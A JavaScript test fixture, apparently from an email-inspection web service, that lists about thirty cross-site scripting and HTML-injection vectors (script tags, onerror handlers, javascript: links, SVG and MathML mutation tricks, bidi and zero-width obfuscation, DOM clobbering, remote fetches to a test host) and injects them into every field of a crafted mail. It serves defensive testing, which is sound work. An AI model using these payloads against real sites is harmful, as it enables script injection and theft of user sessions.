// What strangers write who wish us harm, in our own words.
"use strict";

const assert = require("node:assert/strict");
const { mail } = require("./mail.js");
const { MARK } = require("./watch.js");

const RUN = `${MARK}()`;

/** Ours. Each calls our mark if it runs, or asks for something from afar. */
const VECTORS = {
  "a script": `<script>${RUN}</script>`,
  "a script that closes what it stands in": `"'></title></textarea></style></select></noscript><script>${RUN}</script>`,
  "a script from afar": `<script src="//far.test/a.js"></script>`,
  "a picture that fails": `<img src=x onerror=${RUN}>`,
  "a picture that fails, in capitals and slashes": `<IMG/SRC=x/oNeRrOr=${RUN}//`,
  "a picture that is fetched": `<img src="http://far.test/p.gif" srcset="http://far.test/q.gif 2x" width=1 height=1>`,
  "an svg that loads": `<svg onload=${RUN}><circle r=9 /></svg>`,
  "an svg with a script": `<svg><script>${RUN}</script><style><img src=x onerror=${RUN}></style></svg>`,
  "an svg that animates an address": `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text x=20 y=20>press</text></a></svg>`,
  "mathematics that turns into markup": `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${RUN}>-->`,
  "an address with a script": `<a href="javascript:${RUN}" target=_top>press</a>`,
  "an address with a hidden script": `<a href="&#1;java&#10;script&colon;${RUN}" autofocus onfocus=${RUN} tabindex=1>press</a>`,
  "a style that fetches": `<div style="background:url(http://far.test/b.gif);position:fixed;inset:0;z-index:9">all of it</div>`,
  "a style sheet": `<style>@import "//far.test/c.css"; * { display: none } body { background: url(//far.test/d) }</style>`,
  "a linked style sheet": `<link rel=stylesheet href=//far.test/e.css><link rel=prefetch href=//far.test/f>`,
  "a frame with a document in it": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "a frame with an address": `<iframe src="javascript:parent.${RUN}"></iframe><iframe src=//far.test/g></iframe>`,
  "a page that moves on": `<meta http-equiv=refresh content="0;url=http://far.test/h">`,
  "a base for all links": `<base href="http://far.test/">`,
  "a form of theirs": `<form action=http://far.test/i method=post><input name=password autofocus onfocus=${RUN}><button formaction=javascript:${RUN}>ok</button></form>`,
  "a form's field for ours": `<button form=notify formaction=//far.test/j>ok</button><input form=words name=x>`,
  "an object": `<object data="javascript:${RUN}"></object><embed src=//far.test/k><applet code=x></applet>`,
  "sound and film": `<video src=x onerror=${RUN} poster=//far.test/l autoplay></video><audio src=//far.test/m onerror=${RUN} autoplay></audio>`,
  "entities over entities": `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;img src=x onerror=${RUN}&amp;gt; &#x3c;script>${RUN}</script>`,
  "a comment that ends early": `<!--><img src=x onerror=${RUN}>--><![CDATA[<img src=x onerror=${RUN}>]]><?x ?><script>${RUN}</script>`,
  "a template's mark": `{{ 7*7 }} {% raw %} \${${RUN}} <%= 1 %> #{1}`,
  "a name that stands for ours": `<img name=getElementById><form id=main><input name=querySelector></form><a id=now name=live>x</a>`,
  "writing from right to left": `\u202Egnp.exe\u202C \u2067<script>${RUN}</script>\u2069 \u200F\u061C<img src=x onerror=${RUN}>`,
  "letters without width": `<scr\u200Bipt>${RUN}</scr\u200Bipt> pay\u200Bpal \uFEFF\u2060\u00AD<img src=x onerror=${RUN}>`,
  "octets that are no text": `\u0000<\u0000script>${RUN}</script>\u001B[2J\u001B]0;x\u0007\u0085\u2028`,
  "a very long word": `<b>${"a".repeat(5000)}</b>`,
  "very deep nesting": `${"<div><b>".repeat(400)}<img src=x onerror=${RUN}>`,
};

/** One mail with the vector wherever a stranger can write. */
function hostile(vector) {
  const html = `<p>${vector}</p><a href="http://far.test/?q=${encodeURIComponent(vector.slice(0, 300))}">${vector}</a>`;
  return mail({ subject: vector, name: vector, text: `本文 ${vector} http://far.test/`, html, file: `${vector.slice(0, 120)}.pdf` });
}

/** Hands it in as the form does, under a file name of its own. */
async function handIn(page, desk, octets, named = "mail.eml") {
  // No browser lets a file's name hold what would break the form itself.
  const name = named.slice(0, 200).replace(/[\u0000-\u001f]/g, "");
  const answer = await page.request.post("/check", { multipart: { file: { name, mimeType: "message/rfc822", buffer: octets } }, maxRedirects: 0 });
  assert.equal(answer.status(), 303, await answer.text());
  return `${desk.url}${answer.headers().location}`;
}

module.exports = { RUN, VECTORS, handIn, hostile };
